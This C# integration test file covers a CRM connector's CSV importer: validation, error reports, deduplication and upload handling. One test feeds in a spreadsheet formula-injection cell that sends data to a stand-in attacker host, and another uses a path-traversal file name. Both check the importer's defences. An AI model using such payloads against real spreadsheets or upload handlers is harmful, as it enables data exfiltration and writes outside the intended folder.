using System.Text;
using Connector.IntegrationTests.Infrastructure;
using Connector.Sources;

namespace Connector.IntegrationTests.Sources;

public sealed class CsvImporterTests(DatabaseFixture database) : IClassFixture<DatabaseFixture>, IAsyncLifetime
{
    private SourcesHarness _h = null!;

    public async Task InitializeAsync() => _h = await SourcesHarness.StartAsync(database.ConnectionString);

    public async Task DisposeAsync() => await _h.DisposeAsync();

    [Fact]
    public async Task ImportFileAsync_StagesEveryRowInOneImport_WhenAssociationsFileIsValid()
    {
        var path = _h.Write("assoc.csv", """
            opportunity_id,entity_type,entity_id,action,catalog
            O1001,solution,S-1,,
            O1001, aws product ,AmazonEC2AutoScaling,associate,aws
            O1002,Solutions,S-2,DISASSOCIATE,Sandbox
            """);

        var result = await _h.ImportAsync(path);

        Assert.Equal(ImportOutcome.Accepted, result.Outcome);
        Assert.Equal(0, result.ExitCode);
        Assert.Equal((3, 0, "associations"), (result.RowsAccepted, result.RowsRejected, result.Kind));
        Assert.Null(result.ReportPath);
        Assert.False(File.Exists(path + ".errors.csv"));
        var rows = await _h.StagedAsync();
        Assert.Equal(["associate", "associate", "disassociate"], rows.Select(r => r.ChangeType));
        Assert.Equal(["AWS", "AWS", "Sandbox"], rows.Select(r => r.Catalog));
        Assert.Equal(["Solutions", "AwsProducts", "Solutions"], rows.Select(r => r.EntityType));
        Assert.Equal(["S-1", "AmazonEC2AutoScaling", "S-2"], rows.Select(r => r.EntityId));
        Assert.Equal([2, 3, 4], rows.Select(r => r.SourceLine ?? 0));
        Assert.All(rows, r => Assert.Equal(result.ImportId, r.ImportId));
        Assert.All(rows, r => Assert.Equal("pending", r.Status));
        Assert.Single(rows.Select(r => r.ChangedAt).Distinct());
        var import = Assert.Single(await _h.ImportsAsync());
        Assert.Equal(("assoc.csv", "associations", "cli", "tester", "processed", 3, 0),
            (import.FileName, import.Kind, import.ReceivedVia, import.ReceivedBy, import.Outcome, import.RowsAccepted, import.RowsRejected));
    }

    [Fact]
    public async Task ImportFileAsync_StagesNormalisedAssignees_WhenAssignmentsFileIsValid()
    {
        var path = _h.Write("assign.csv", """
            Opportunity ID,E-mail,First Name,last-name,BUSINESS_TITLE,Phone
            O77, Jane.Doe@Example.com ,Jane,Doe,PartnerAccountManager,+14155550100
            O78,li.wei@example.com,李,伟,OpportunityOwner,
            """);

        var result = await _h.ImportAsync(path);

        Assert.Equal(ImportOutcome.Accepted, result.Outcome);
        Assert.Equal("assignments", result.Kind);
        var rows = await _h.StagedAsync();
        Assert.Equal(["assign", "assign"], rows.Select(r => r.ChangeType));
        Assert.Equal(["jane.doe@example.com", "li.wei@example.com"], rows.Select(r => r.AssigneeEmail));
        Assert.Equal(["+14155550100", "(null)"], rows.Select(r => r.AssigneePhone ?? "(null)"));
        Assert.Equal(("李", "伟"), (rows[1].AssigneeFirstName, rows[1].AssigneeLastName));
        Assert.All(rows, r => Assert.Null(r.EntityType));
    }

    [Theory]
    [InlineData("\r\n", true)]
    [InlineData("\n", false)]
    [InlineData("\r", true)]
    [InlineData("\r\n", false)]
    public async Task ImportFileAsync_CountsPhysicalLines_WhenLineEndingsAndBomVary(string newline, bool bom)
    {
        // Line 3 is blank, line 4 starts a record whose quoted note spans lines 4-6.
        var text = string.Join(newline, "opportunity_id,entity_type,entity_id,notes", "O1,solution,S-1,", "",
            "O2,solution,S-2,\"first", "second \"\"quoted\"\"", "third\"", "O3,solution,bad,x", "O4,solution,S-4,\"a, b\"") + newline;
        var path = _h.Write($"endings-{(int)newline[^1]}-{bom}.csv", text, bom);

        var result = await _h.ImportAsync(path);

        Assert.Equal(ImportOutcome.PartlyRejected, result.Outcome);
        Assert.Equal(["notes"], result.IgnoredColumns);
        Assert.EndsWith("Ignored columns: notes.", result.Message);
        Assert.Equal([2, 4, 8], (await _h.StagedAsync()).Select(r => r.SourceLine ?? 0));
        var error = Assert.Single(result.Errors);
        Assert.Equal((7, "entity_id", "INVALID_STRING_FORMAT"), (error.Line, error.Field, error.Code));
    }

    [Fact]
    public async Task ImportFileAsync_ReportsEachBadRowWithLineFieldAndRule_WhenRowsBreakRules()
    {
        var path = _h.Write("mixed.csv", """
            opportunity_id,entity_type,entity_id,action
            O1,solution,S-1,
            O2,solution
            O3,solution,S-3,associate,surplus
            O4,partner thing,S-4,
            O5,solution,S-5,remove
            ,solution,S-6,
            O7,solution,S-7,,,
            O8,sol"ution,S-8,
            """);

        var result = await _h.ImportAsync(path);

        Assert.True(result.Outcome == ImportOutcome.PartlyRejected, string.Join("\n", result.Errors));
        Assert.Equal(1, result.ExitCode);
        Assert.True((2, 6) == (result.RowsAccepted, result.RowsRejected), string.Join("\n", result.Errors));
        Assert.Equal(
            [(3, "(row)", "MISSING_CELLS"), (4, "(row)", "TOO_MANY_CELLS"), (5, "entity_type", "INVALID_ENUM_VALUE"),
             (6, "action", "INVALID_ENUM_VALUE"), (7, "opportunity_id", "REQUIRED_FIELD_MISSING"), (9, "(row)", "BAD_QUOTING")],
            result.Errors.Select(e => (e.Line, e.Field, e.Code)));
        Assert.Equal([2, 8], (await _h.StagedAsync()).Select(r => r.SourceLine ?? 0));
        Assert.Equal(Path.Combine(_h.Folder, "mixed.csv.errors.csv"), result.ReportPath);
        var report = ReadReport(result.ReportPath!);
        Assert.Equal(["line", "field", "rule", "opportunity_id", "entity_type", "entity_id", "action"], report[0]);
        Assert.Equal(["3", "(row)", "MISSING_CELLS: The row has 2 cells; the header has 4.", "O2", "solution"], report[1]);
        Assert.Equal(["6", "action", "INVALID_ENUM_VALUE: action must be associate or disassociate (empty means associate).", "O5", "solution", "S-5", "remove"], report[4]);
        Assert.Equal(7, report.Count);
    }

    [Fact]
    public async Task ImportFileAsync_NeutralisesFormulasInReport_WhenBadRowsCarrySpreadsheetFormulas()
    {
        var path = _h.Write("formulas.csv", """
            opportunity_id,email,first_name,last_name,business_title,phone
            "=HYPERLINK(""http://evil.example/?""&A1,""click"")",a@example.com,@SUM(1),-x,+title,	tabbed
            """);

        var result = await _h.ImportAsync(path);

        Assert.Equal(ImportOutcome.RejectedWhole, result.Outcome);
        var text = await File.ReadAllTextAsync(result.ReportPath!);
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"", text);
        Assert.Contains("\"'@SUM(1)\"", text);
        Assert.Contains("\"'-x\"", text);
        Assert.Contains("\"'+title\"", text);
        Assert.Contains("\"'\ttabbed\"", text);
        Assert.DoesNotContain(",=", text);
        Assert.DoesNotContain(",@", text);
    }

    [Fact]
    public async Task ImportFileAsync_StagesOnce_WhenSameContentIsImportedAgainUnderAnotherName()
    {
        const string content = "opportunity_id,entity_type,entity_id\nO9,solution,S-9\n";
        var first = await _h.ImportAsync(_h.Write("first.csv", content));

        var again = await _h.ImportAsync(_h.Write("again.csv", content));

        Assert.Equal(ImportOutcome.AlreadyImported, again.Outcome);
        Assert.Equal(0, again.ExitCode);
        Assert.Equal(first.ImportId, again.ImportId);
        Assert.Matches($@"already imported on \d{{4}}-\d\d-\d\d \d\d:\d\d UTC as import #{first.ImportId}", again.Message);
        Assert.Single(await _h.StagedAsync());
        var imports = await _h.ImportsAsync();
        Assert.Equal(["processed", "rejected"], imports.Select(i => i.Outcome));
        Assert.StartsWith("ALREADY_IMPORTED", imports[1].Detail);
    }

    [Fact]
    public async Task ImportFileAsync_ReportsAlreadyImported_WhenAnotherServerCommitsSameContentMeanwhile()
    {
        var bytes = Encoding.UTF8.GetBytes("opportunity_id,entity_type,entity_id\nO31,solution,S-31\n");
        var sha = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(bytes));
        // "Another server": its import of the same bytes is in flight, its imports row inserted but not committed.
        await using var other = await _h.DataSource.OpenConnectionAsync();
        await using var otherTransaction = await other.BeginTransactionAsync();
        await using (var insert = new Npgsql.NpgsqlCommand(
            "insert into connector.imports (file_name, content_sha256, received_via, outcome) values ('elsewhere.csv', $1, 'drop-folder', 'processed')", other, otherTransaction))
        {
            insert.Parameters.AddWithValue(sha);
            await insert.ExecuteNonQueryAsync();
        }

        var import = _h.ImportAsync(_h.WriteBytes("race.csv", bytes));
        await WaitUntilBlockedOnLockAsync(import);
        await otherTransaction.CommitAsync();
        var result = await import;

        Assert.Equal(ImportOutcome.AlreadyImported, result.Outcome);
        Assert.Equal(0, await _h.CountAsync("crm_changes"));
        Assert.Equal(["elsewhere.csv", "race.csv"], (await _h.ImportsAsync()).Select(i => i.FileName));
    }

    [Fact]
    public async Task ImportFileAsync_StagesNothingButCallsInspectHook_WhenDryRun()
    {
        var path = _h.Write("dry.csv", "opportunity_id,entity_type,entity_id\nO1,solution,S-1\nO2,solution,oops\n");
        var before = await _h.ImportAsync(_h.Write("before.csv", "opportunity_id,entity_type,entity_id\nO9,solution,S-9\n"));
        long seenInside = -1;
        long? hookImportId = null;
        var request = new ImportRequest(DryRun: true, ImportChannel.Cli, null, null, async (connection, transaction, importId, ct) =>
        {
            hookImportId = importId;
            await using var command = new Npgsql.NpgsqlCommand("select count(*) from connector.crm_changes where import_id = $1", connection, transaction);
            command.Parameters.AddWithValue(importId);
            seenInside = (long)(await command.ExecuteScalarAsync(ct))!;
        });

        var result = await _h.ImportAsync(path, request);

        Assert.Equal(ImportOutcome.PartlyRejected, result.Outcome);
        Assert.Equal((1, 1), (result.RowsAccepted, result.RowsRejected));
        Assert.Null(result.ImportId);
        Assert.NotNull(hookImportId);
        Assert.Equal(1, seenInside);
        Assert.Equal(1, await _h.CountAsync("crm_changes"));
        Assert.Equal(1, await _h.CountAsync("imports"));
        Assert.Contains("Dry run", result.Message);

        var real = await _h.ImportAsync(path);
        Assert.Equal(ImportOutcome.PartlyRejected, real.Outcome);
        // The dry run used up no import number.
        Assert.Equal(before.ImportId + 1, real.ImportId);
    }

    [Fact]
    public async Task ImportFileAsync_ReportsItsProgress_EveryFewThousandRows_AndOnceAtTheEnd()
    {
        var rows = string.Concat(Enumerable.Range(0, 12_000).Select(i => $"O{100000 + i},solution,S-1\n"));
        var path = _h.Write("long.csv", "opportunity_id,entity_type,entity_id\n" + rows);
        var seen = new List<ImportProgress>();

        var result = await _h.ImportAsync(path, new ImportRequest(false, ImportChannel.Cli, null, null, Progress: new Collect(seen)));

        Assert.Equal(12_000, result.RowsAccepted);
        Assert.Equal([5_000L, 10_000L, 12_000L], seen.Select(p => p.Rows));
        var length = new FileInfo(path).Length;
        Assert.All(seen, p => Assert.Equal(length, p.Length));
        // Read ahead in buffers: the position runs ahead of the rows, never backwards, and is short of the end at first.
        Assert.True(seen[0].BytesRead > 0 && seen[0].BytesRead < length && seen[0].BytesRead <= seen[1].BytesRead, string.Join(", ", seen));
        Assert.Equal(length, seen[^1].BytesRead);
    }

    private sealed class Collect(List<ImportProgress> seen) : IProgress<ImportProgress>
    {
        public void Report(ImportProgress value) => seen.Add(value);
    }

    [Fact]
    public async Task ImportStreamAsync_NeverUsesDisplayNameAsPath_WhenNameLooksLikeAPath()
    {
        var reports = Directory.CreateDirectory(Path.Combine(_h.Folder, "reports")).FullName;
        const string displayName = "../../outside/évil name.csv";
        var bytes = Encoding.UTF8.GetBytes("opportunity_id,entity_type,entity_id\nO1,solution,S-1\nO2,solution,nope\n");

        var result = await _h.Importer.ImportStreamAsync(new MemoryStream(bytes), displayName,
            new ImportRequest(false, ImportChannel.Upload, "someone", reports), CancellationToken.None);

        Assert.Equal(ImportOutcome.PartlyRejected, result.Outcome);
        Assert.Equal(reports, Path.GetDirectoryName(result.ReportPath));
        Assert.Matches(@"^upload-[0-9a-f]{32}\.errors\.csv$", Path.GetFileName(result.ReportPath));
        Assert.Equal([result.ReportPath!], Directory.GetFiles(_h.Folder, "*", SearchOption.AllDirectories));
        Assert.Equal(displayName, (await _h.ImportsAsync())[0].FileName);
        Assert.Contains(displayName, result.Message);
        Assert.Empty(Directory.GetFiles(Path.GetTempPath(), "connector-upload-*"));
    }

    [Fact]
    public async Task ImportFileAsync_ShowsFirstThousandErrorsButReportsAll_WhenRowsAreMostlyBad()
    {
        var text = new StringBuilder("opportunity_id,entity_type,entity_id\n");
        for (var i = 0; i < 1500; i++)
        {
            text.Append(i % 100 == 0 ? $"O{i + 1},solution,S-{i}\n" : $"bad{i},solution,S-{i}\n");
        }

        var result = await _h.ImportAsync(_h.Write("mostly-bad.csv", text.ToString()));

        Assert.Equal((15, 1485), (result.RowsAccepted, result.RowsRejected));
        Assert.Equal(1000, result.Errors.Count);
        Assert.Equal(1486, ReadReport(result.ReportPath!).Count);
    }

    [Fact]
    public async Task ImportFileAsync_AppliesDefaultCatalogCaseRule_WhenConfiguredInLowerCase()
    {
        _h.Options.DefaultCatalog = "aws";

        var result = await _h.ImportAsync(_h.Write("lower-default.csv", "opportunity_id,entity_type,entity_id\nO6,solution,S-6\n"));

        Assert.Equal(ImportOutcome.Accepted, result.Outcome);
        Assert.Equal("AWS", Assert.Single(await _h.StagedAsync()).Catalog);
    }

    [Fact]
    public async Task ImportStreamAsync_CreatesReportDirectory_WhenItDoesNotExistYet()
    {
        var reports = Path.Combine(_h.Folder, "not", "yet");

        var result = await _h.Importer.ImportStreamAsync(new MemoryStream(Encoding.UTF8.GetBytes("opportunity_id,entity_type,entity_id\nO1,solution,x\n")),
            "x.csv", new ImportRequest(false, ImportChannel.Upload, null, reports), CancellationToken.None);

        Assert.True(File.Exists(result.ReportPath));
    }

    [Fact]
    public async Task ImportFileAsync_WritesReportBesideFile_WhenFileNameHasSpacesUnicodeAndDots()
    {
        var path = _h.Write("..Q3 ünïcødé  list..csv", "opportunity_id,entity_type,entity_id\nO1,solution,S-x\n");

        var result = await _h.ImportAsync(path);

        Assert.Equal(path + ".errors.csv", result.ReportPath);
        Assert.True(File.Exists(result.ReportPath));
        Assert.Equal("..Q3 ünïcødé  list..csv", (await _h.ImportsAsync())[0].FileName);
    }

    [Fact]
    public async Task ImportStreamAsync_RejectsWhole_WhenUploadExceedsMaxUploadBytes()
    {
        _h.Options.MaxUploadBytes = 1000;
        var big = "opportunity_id,entity_type,entity_id\n" + string.Concat(Enumerable.Range(1, 100).Select(i => $"O{i},solution,S-{i}\n"));

        var result = await _h.Importer.ImportStreamAsync(new MemoryStream(Encoding.UTF8.GetBytes(big)), "big.csv",
            new ImportRequest(false, ImportChannel.Upload, null, null), CancellationToken.None);

        Assert.Equal(ImportOutcome.RejectedWhole, result.Outcome);
        Assert.Equal("FILE_TOO_LARGE", Assert.Single(result.Errors).Code);
        Assert.Equal(0, await _h.CountAsync("crm_changes"));
    }

    [Fact]
    public async Task ImportFileAsync_UsesConfiguredCatalog_WhenRowsNameNone()
    {
        _h.Options.DefaultCatalog = "Sandbox";

        await _h.ImportAsync(_h.Write("sandbox.csv", "opportunity_id,entity_type,entity_id\nO5,solution,S-5\n"));

        Assert.Equal("Sandbox", Assert.Single(await _h.StagedAsync()).Catalog);
    }

    [Fact]
    public async Task ImportFileAsync_LogsNoCellValues_WhenRowsCarryEmailsAndPhones()
    {
        var path = _h.Write("private.csv", """
            opportunity_id,email,first_name,last_name,business_title,phone
            O1,secret.person@example.com,Secretfirst,Secretlast,OpportunityOwner,+15550001111
            O2,bad-secret-email,Secretfirst,Secretlast,OpportunityOwner,+15550002222
            """);

        await _h.ImportAsync(path);

        Assert.NotEmpty(_h.Logger.Entries);
        Assert.DoesNotContain(_h.Logger.Entries, e => e.Contains("secret", StringComparison.OrdinalIgnoreCase) || e.Contains("555000"));
    }

    private async Task WaitUntilBlockedOnLockAsync(Task import)
    {
        await using var connection = await _h.DataSource.OpenConnectionAsync();
        for (var i = 0; i < 2000 && !import.IsCompleted; i++)
        {
            await using var command = new Npgsql.NpgsqlCommand(
                "select count(*) from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock'", connection);
            if ((long)(await command.ExecuteScalarAsync())! > 0)
            {
                return;
            }

            await Task.Delay(10);
        }

        Assert.Fail("The import never waited for the other server's uncommitted import.");
    }

    internal static List<string[]> ReadReport(string path)
    {
        using var reader = CsvHelper.CsvReader.FromFile(path, new CsvHelper.CsvReaderOptions { Separator = ',', HasHeader = false });
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add(Enumerable.Range(0, reader.FieldCount).Select(reader.GetString).ToArray());
        }

        return rows;
    }
}
